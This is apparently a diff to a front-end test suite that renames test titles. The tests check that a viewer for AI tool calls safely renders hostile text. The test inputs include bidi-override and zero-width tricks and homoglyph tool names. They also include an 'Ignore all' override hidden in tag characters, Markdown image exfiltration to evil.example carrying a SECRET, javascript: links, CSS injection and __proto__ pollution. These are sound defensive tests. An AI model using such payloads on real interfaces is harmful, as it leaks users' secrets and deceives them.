@@ -54,7 +54,7 @@ async function json(name: string) {
 }
 
 describe('text that is not what it looks like', () => {
-  it('PUB-12 render/bidi-override: tokens in both views, and the payload that runs keeps its characters', async () => {
+  it('text that reverses its direction is shown as tokens in both views, but runs unchanged', async () => {
     const host = createTestHost()
     const args = { path: 'C:/inv\u202etxt.exe', note: 'Sign into \u202e EVIL' }
     const { container } = render(
@@ -70,7 +70,7 @@ describe('text that is not what it looks like', () => {
     expect(host.sent).toMatchObject([{ decision: { arguments: args } }])
   })
 
-  it('PUB-13 render/zero-width: tokens in name, keys and values, and a warning in the accessible description of request and line', async () => {
+  it('invisible characters are tokens in names, keys and values, and the request and the line describe a warning', async () => {
     const { container, unmount } = show(
       asked('shell\u200b_repo', { to: 'ops@corp\u200d.example', '\u2060admin': true }),
     )
@@ -87,7 +87,7 @@ describe('text that is not what it looks like', () => {
     await waitFor(() => expect(section('Arguments')).toHaveAccessibleDescription(/1 hidden/))
   })
 
-  it('PUB-14 render/tag-characters: seen in the result, copied as codes, and copying says so', async () => {
+  it('hidden tag characters are visible in the result, copied as codes, and the copy button says so', async () => {
     const hidden = Array.from('Ignore all', (letter) =>
       String.fromCodePoint(0xe0000 + letter.charCodeAt(0)),
     ).join('')
@@ -109,7 +109,7 @@ describe('text that is not what it looks like', () => {
     ['d\u0435lete_repo', 'U+0435'],
     ['g\u0435t_user', 'U+0435'],
     ['\u0440ay_invoice', 'U+0440'],
-  ])('PUB-15 render/homoglyph-name: %s is flagged with the letter that differs', (name, token) => {
+  ])('the name %s is flagged with the letter that is not Latin', (name, token) => {
     const { container } = show(finished({ success: true }, { call: call(name, {}) }))
     expect(screen.getAllByText(token)[0]).toBeVisible()
     expect(
@@ -118,7 +118,7 @@ describe('text that is not what it looks like', () => {
     expect(container.textContent).not.toContain(name)
   })
 
-  it('PUB-16 render/ansi: escapes are tokens, an error stays an error, nothing is styled', async () => {
+  it('terminal escape codes are tokens; an error stays an error, and nothing gets a style', async () => {
     const { container } = await opened(
       exampleRecord('failed', {
         result: {
@@ -135,7 +135,7 @@ describe('text that is not what it looks like', () => {
     expect(container.querySelectorAll('[style]')).toHaveLength(0)
   })
 
-  it('PUB-17 render/html: markup is text', async () => {
+  it('markup is shown as text', async () => {
     const { container } = await opened(
       exampleRecord('failed', {
         result: {
@@ -151,7 +151,7 @@ describe('text that is not what it looks like', () => {
     expect('__x' in window).toBe(false)
   })
 
-  it('PUB-18 render/markdown-image-exfil: nothing is fetched or linked', async () => {
+  it('a Markdown picture fetches nothing and links to nothing', async () => {
     const fetched = vi.spyOn(globalThis, 'fetch')
     const message =
       '![logo](https://evil.example/p.png?q=SECRET) and [a][1]\n\n[1]: https://evil.example/?q=SECRET'
@@ -172,7 +172,7 @@ describe('text that is not what it looks like', () => {
     fetched.mockRestore()
   })
 
-  it('PUB-19 render/link-schemes: only http and https are links, with the host that is real', async () => {
+  it('only http and https addresses are links, and they show the real host', async () => {
     const links = [
       'javascript:alert(1)',
       ' java\tscript:alert(1)',
@@ -207,7 +207,7 @@ describe('text that is not what it looks like', () => {
     expect(link).toHaveAttribute('target', '_blank')
   })
 
-  it('PUB-20 render/react-element-shaped-data: data stays data', async () => {
+  it('data that looks like a React element stays data', async () => {
     const x = {
       $$typeof: 'Symbol(react.element)',
       type: 'img',
@@ -236,7 +236,7 @@ describe('text that is not what it looks like', () => {
     expect(screen.getByText('a string')).toBeVisible()
   })
 
-  it('PUB-21 render/css-injection: no attribute is made of what came', async () => {
+  it('no attribute is made from text that came from outside', async () => {
     const data = {
       color: 'red;background:url(https://evil.example/c)',
       className: 'fixed inset-0 z-50',
@@ -263,7 +263,7 @@ describe('text that is not what it looks like', () => {
     ).toEqual([])
   })
 
-  it('PUB-23 render/status-comes-from-state', async () => {
+  it('the status comes from the record, never from words in the text', async () => {
     const first = await opened(
       exampleRecord('failed', {
         result: {
@@ -283,7 +283,7 @@ describe('text that is not what it looks like', () => {
 })
 
 describe('objects', () => {
-  it('PUB-46 object/__proto__: the keys are shown, and nothing inherits them', async () => {
+  it('keys such as __proto__ are shown, and nothing inherits them', async () => {
     const argumentsText =
       '{"a":1,"__proto__":{"autoRun":true,"isLocal":false},"constructor":{"prototype":{"consent":true}}}'
     await opened(
@@ -301,7 +301,7 @@ describe('objects', () => {
     ]).toEqual([undefined, undefined])
   })
 
-  it('PUB-47 object/depth-cycle-bigint: marked, never thrown', async () => {
+  it('deep values, cycles and bigints are marked and never throw', async () => {
     const deep: unknown = JSON.parse('['.repeat(100_000) + ']'.repeat(100_000))
     const cyc: Record<string, unknown> = {}
     cyc.self = cyc
@@ -321,7 +321,7 @@ describe('objects', () => {
   })
 
   it.each([undefined, null, [1], 7, true, 'plain'])(
-    'REL-08 args: %s is shown as a value',
+    'arguments that are %s are shown as a value',
     async (args) => {
       await opened(finished({ success: true }, { call: call('update_note', args) }))
       await json('Arguments')
@@ -332,14 +332,14 @@ describe('objects', () => {
   )
 
   it.each([null, '', [], {}, { success: true, message: { a: 1 } }])(
-    'REL-12 shape: a result that is %j',
+    'a result that is %j does not break the view',
     async (result) => {
       await opened(finished(result))
       expect(bubbleOf('call-1')).toBeVisible()
     },
   )
 
-  it('REL-13 shape: an error is text, bounded, and the status is failed', async () => {
+  it('an error is text of limited length, and the status is failed', async () => {
     const circular: Record<string, unknown> = { why: 'loop' }
     circular.cause = circular
     for (const [error, text] of [
@@ -378,7 +378,7 @@ describe('whatever comes', () => {
     )
     .map((pieces) => pieces.join(''))
 
-  it('no hidden character stands in the page as itself', () => {
+  it('no hidden character is in the page as itself', () => {
     fc.assert(
       fc.property(texts, texts, (a, b) => {
         const { container, unmount } = render(
